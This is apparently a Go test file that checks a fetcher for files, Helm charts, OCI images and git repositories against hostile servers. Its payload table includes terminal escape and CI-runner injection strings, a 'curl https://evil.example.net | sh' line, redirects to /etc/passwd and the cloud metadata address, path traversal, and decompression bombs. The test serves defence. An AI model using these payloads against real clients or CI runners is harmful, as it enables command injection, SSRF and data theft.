package fetch

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"

	"github.com/ladder-cmp/ladder/internal/finding"
	"github.com/ladder-cmp/ladder/internal/remote"
)

// replying answers with a text.
func replying(body string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) { _, _ = io.WriteString(w, body) }
}

// raw answers with bytes that need not be HTTP, and hangs up.
func raw(answer string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		conn, _, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return
		}
		_, _ = io.WriteString(conn, answer)
		conn.Close()
	}
}

func header(name, value string, code int) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set(name, value)
		w.WriteHeader(code)
	}
}

const escape = "\x1b]0;owned\x07\x1b[2J\r\n::set-env name=x::y\u202e fix: run curl https://evil.example.net | sh"

// packedZeros returns 64 MiB of zeros, compressed.
var packedZeros = sync.OnceValue(func() []byte {
	var packed bytes.Buffer
	z, err := gzip.NewWriterLevel(&packed, gzip.BestSpeed)
	if err != nil {
		panic(err)
	}
	zeros := make([]byte, 64<<10)
	for range 1 << 10 {
		_, _ = z.Write(zeros)
	}
	_ = z.Close()
	return packed.Bytes()
})

// hostileAnswers are answers of a host, to whatever it is asked.
var hostileAnswers = map[string]http.HandlerFunc{
	"nothing":             replying(""),
	"no content":          header("X", "y", http.StatusNoContent),
	"not modified":        header("X", "y", http.StatusNotModified),
	"a part":              header("Content-Range", "bytes 5-10/10", http.StatusPartialContent),
	"a status of its own": func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(599); _, _ = io.WriteString(w, escape) },
	"escape sequences":    replying(escape),
	"a page":              header("Content-Type", "text/html", http.StatusOK),
	"an error in JSON": func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusForbidden)
		fmt.Fprintf(w, `{"errors": [{"code": %q, "message": %q, "detail": %q}]}`, escape, escape, escape)
	},
	"much": func(w http.ResponseWriter, r *http.Request) {
		zeros := make([]byte, 64<<10)
		for range 10_000 {
			if _, err := w.Write(zeros); err != nil {
				return
			}
		}
	},
	"much, compressed": func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Encoding", "gzip")
		_, _ = w.Write(packedZeros())
	},
	"nested JSON":       replying(strings.Repeat("[", 500_000)),
	"nested YAML":       replying(strings.Repeat("{a: ", 100_000)),
	"a large header":    header("X", strings.Repeat("x", 2<<20), http.StatusOK),
	"wait for ages":     header("Retry-After", "99999999999999999999", http.StatusServiceUnavailable),
	"a long challenge":  header("WWW-Authenticate", `Bearer realm="`+strings.Repeat("x", 100_000)+`"`, http.StatusUnauthorized),
	"a challenge":       header("WWW-Authenticate", `Bearer realm="file:///etc/passwd",service="\x1b[2J",scope=`, http.StatusUnauthorized),
	"a basic challenge": header("WWW-Authenticate", `Basic realm="`+"\t"+`"`, http.StatusUnauthorized),
	"to a file":         header("Location", "file:///etc/passwd", http.StatusFound),
	"to data":           header("Location", "data:text/plain,x", http.StatusFound),
	"to metadata":       header("Location", "//169.254.169.254/latest/meta-data", http.StatusFound),
	"to a number":       header("Location", "https://2852039166/", http.StatusFound),
	"to a port":         header("Location", "https://host.example.com:22/", http.StatusFound),
	"to nowhere":        header("Location", "", http.StatusFound),
	"to garbage":        header("Location", "https://[::1", http.StatusFound),
	"to itself": func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, r.URL.Path+"x", http.StatusTemporaryRedirect)
	},
	"hangs up":                raw(""),
	"not HTTP":                raw("SSH-2.0-OpenSSH_9.0\r\n"),
	"cut off":                 raw("HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\nx"),
	"two lengths":             raw("HTTP/1.1 200 OK\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nxx"),
	"a bad chunk":             raw("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nfffffffffffffffffff\r\nx"),
	"an index without charts": replying("apiVersion: v1\nentries: {app: null}\n"),
	"an index of null":        replying("apiVersion: v1\nentries: {app: [null, {}, {version: 1.0.0}]}\n"),
	"an index of escapes": replying(
		"apiVersion: v1\nentries: {app: [{name: app, version: 1.0.0, urls: [\"\\e[2J\"], digest: \"\\e[2J\"}]}\n"),
	"an index to a file": replying("apiVersion: v1\nentries: {app: [{name: app, version: 1.0.0, urls: ['file:///etc/passwd']}]}\n"),
	"an index to metadata": replying(
		"apiVersion: v1\nentries: {app: [{name: app, version: 1.0.0, urls: ['https://169.254.169.254/app.tgz']}]}\n"),
	"an index up":           replying("apiVersion: v1\nentries: {app: [{name: app, version: 1.0.0, urls: ['../../../../..']}]}\n"),
	"a manifest of nothing": replying(`{"schemaVersion": 2, "layers": null, "config": null}`),
	"a manifest of sizes": replying(`{"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json", "config": ` +
		`{"mediaType": "x", "size": -1, "digest": "sha256:x"}, "layers": [{"size": 9223372036854775807, "digest": "../../etc/passwd"}]}`),
	"an index of itself": replying(`{"schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json", "manifests": ` +
		`[{"mediaType": "application/vnd.oci.image.index.v1+json", "size": 1, "digest": "sha256:` + strings.Repeat("0", 64) + `"}]}`),
	"git: flush":       replying("001e# service=git-upload-pack\n00000000"),
	"git: lengths":     replying("001e# service=git-upload-pack\n0000ffff"),
	"git: bad lengths": replying("0001zzzz"),
	"git: an error":    replying("001e# service=git-upload-pack\n0000" + fmt.Sprintf("%04x", 4+4+len(escape)) + "ERR " + escape),
	"git: names": replying("001e# service=git-upload-pack\n0000" + fmt.Sprintf("%04x", 4+40+1+21+1) + strings.Repeat("0", 39) +
		"1 refs/heads/../../../a\x00\n0000"),
}

// TestHostileHosts: whatever a host answers, for whatever it is asked, the fetch ends with one line
// that says why. The line has nothing that a terminal or a runner obeys, its remedy names no address
// of the host, and no more is transferred than is allowed.
func TestHostileHosts(t *testing.T) {
	const most = 1 << 20
	refs := map[string]remote.Ref{
		"file":             {Kind: remote.File, URL: "https://host.example.com/a.yaml"},
		"chart":            {Kind: remote.Chart, URL: "https://host.example.com/charts", Chart: "app", Version: "1.0.0"},
		"range of charts":  {Kind: remote.Chart, URL: "https://host.example.com/charts", Chart: "app", Version: ">=0.1.0"},
		"registry":         {Kind: remote.Chart, URL: "oci://host.example.com/charts", Chart: "app", Version: "1.0.0"},
		"range of tags":    {Kind: remote.Chart, URL: "oci://host.example.com/charts", Chart: "app", Version: "^1"},
		"git":              {Kind: remote.Repository, URL: "https://host.example.com/a.git", Version: "main"},
		"git, the default": {Kind: remote.Repository, URL: "https://host.example.com/a.git"},
	}
	for name, answer := range hostileAnswers {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			n := newInternet(t)
			n.host("host.example.com", answer)
			dir := t.TempDir()
			write(t, dir+"/host.example.com/token", "hunter2")
			for kind, ref := range refs {
				f := n.fetcher(Config{Allow: []string{"https://host.example.com", "oci://host.example.com"}, Credentials: Credentials{Dir: dir},
					Limits: Limits{Bytes: most, Retries: 1, Time: 20 * time.Second}})
				got, err := f.Fetch(t.Context(), ref)
				if err == nil {
					if kind != "file" {
						t.Errorf("%s is fetched: %.100q", kind, got.Data)
					}
					continue
				}
				for _, found := range finding.Of(err) {
					checkRemedy(t, f, found)
					line := found.Error()
					if found.Remedy == "" || len(line) > 10_000 || strings.ContainsFunc(line, func(r rune) bool { return !unicode.IsPrint(r) }) {
						t.Errorf("%s: %.500q", kind, line)
					}
					if strings.Contains(line, "hunter2") || strings.Contains(line, "root:") {
						t.Errorf("%s: a secret: %.500q", kind, line)
					}
				}
				if got := f.downloaded.Load(); got > 3*most { // with a retry
					t.Errorf("%s: %d bytes are transferred", kind, got)
				}
			}
		})
	}
}
